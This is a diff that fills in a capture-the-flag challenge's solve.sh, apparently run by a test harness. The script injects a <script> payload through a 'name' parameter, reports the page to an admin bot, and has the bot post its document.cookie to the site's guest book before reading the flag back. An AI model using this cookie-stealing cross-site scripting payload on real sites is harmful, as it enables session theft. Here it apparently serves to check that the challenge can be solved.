@@ -1,5 +1,7 @@
 #!/bin/sh
-# Without egress the bot reaches nothing outside: a script in the page must bring the flag to where players can read it.
-# Write what your challenge needs here; it has to print the flag.
-echo "solve.sh is not written yet" >&2
-exit 1
+# whaley test --solve runs this with URL set, and looks for the flag in what it prints. Without egress the bot reaches nothing
+# outside, so a script in the page it looks at signs the guest book with its cookie.
+set -e
+script='<script>fetch("/sign?text=".concat(encodeURIComponent(document.cookie)))</script>'
+curl -fsS -G "$URL/report" --data-urlencode "path=/?name=$script"
+curl -fsS "$URL/"
